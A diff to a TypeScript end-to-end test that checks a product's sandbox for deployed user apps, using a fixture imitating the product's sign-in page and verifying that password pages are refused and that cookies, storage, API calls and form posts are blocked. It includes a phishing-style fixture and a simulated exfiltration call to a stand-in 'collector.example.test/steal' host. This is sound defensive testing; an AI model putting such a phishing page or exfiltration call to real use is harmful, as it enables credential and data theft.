@@ -4,7 +4,7 @@ import { expectVisible } from '../support/expect';
 import { describe, expect, test } from '../support/fixtures';
 import { createVerifiedUser } from '../support/users';
 
-/** An app built to misbehave: it imitates the product's sign-in page. */
+/** An app built to misbehave: it imitates the product's sign-in page (a password field, refused at build time). */
 const PHISHING_APP = [
   {
     path: 'index.html',
@@ -13,6 +13,8 @@ const PHISHING_APP = [
   },
   { path: 'main.js', content: "document.body.dataset.ready = 'yes';\n" },
 ];
+/** The same imitation without the password field: it builds, and the sandbox must still hold it. */
+const IMITATION_APP = PHISHING_APP.map((f) => ({ ...f, content: f.content.replace(/<label>Password[^]*?<\/label>/, '') }));
 
 async function api<T>(baseURL: string, path: string, init: RequestInit & { token?: string } = {}): Promise<T> {
   const headers = { ...(init.body ? { 'content-type': 'application/json' } : {}), ...(init.token ? { authorization: `Bearer ${init.token}` } : {}) };
@@ -25,7 +27,14 @@ describe('deployed apps on their own origin', () => {
   test("a deployed app opens on the apps origin and cannot reach the product's cookies, storage or API", async ({ page, baseURL }) => {
     const user = await createVerifiedUser(baseURL);
     const { access_token: token } = await api<{ access_token: string }>(baseURL, '/api/v1/auth/login', { method: 'POST', body: JSON.stringify({ email: user.email, password: user.password }) });
-    const project = await api<{ id: string }>(baseURL, '/api/v1/bolt/projects', { method: 'POST', token, body: JSON.stringify({ name: 'Sign in page', template: 'vanilla-js', files: PHISHING_APP }) });
+    // A page asking for a password is refused at build time: it can be neither previewed nor deployed.
+    const phishing = await api<{ id: string }>(baseURL, '/api/v1/bolt/projects', { method: 'POST', token, body: JSON.stringify({ name: 'Sign in page', template: 'vanilla-js', files: PHISHING_APP }) });
+    const refused = await fetch(`${baseURL}/api/v1/bolt/projects/${phishing.id}/deploy`, { method: 'POST', headers: { authorization: `Bearer ${token}` } });
+    expect(refused.status).toBe(422);
+    expect(await refused.text()).toMatch(/password/i);
+
+    expect(IMITATION_APP[0].content).not.toContain('password');
+    const project = await api<{ id: string }>(baseURL, '/api/v1/bolt/projects', { method: 'POST', token, body: JSON.stringify({ name: 'Sign in page', template: 'vanilla-js', files: IMITATION_APP }) });
     const { url } = await api<{ url: string }>(baseURL, `/api/v1/bolt/projects/${project.id}/deploy`, { method: 'POST', token });
     const { apps_origin: appsOrigin } = await api<{ apps_origin: string }>(baseURL, '/api/v1/config');
     const product = new URL(baseURL).origin;
@@ -63,7 +72,7 @@ describe('deployed apps on their own origin', () => {
       const storage = await attempt(() => localStorage.length);
       const me = await attempt(() => fetch(`${productOrigin}/api/v1/auth/me`, { credentials: 'include' }).then((r) => r.status));
       const exfiltrate = await attempt(() => fetch('https://collector.example.test/steal', { method: 'POST', body: 'x' }).then((r) => r.status));
-      // A form posting the "password" to the product (or anywhere) is refused by form-action 'none'.
+      // A form posting the visitor's details to the product (or anywhere) is refused by form-action 'none'.
       const form = document.createElement('form');
       form.method = 'post';
       form.action = `${productOrigin}/api/v1/auth/login`;
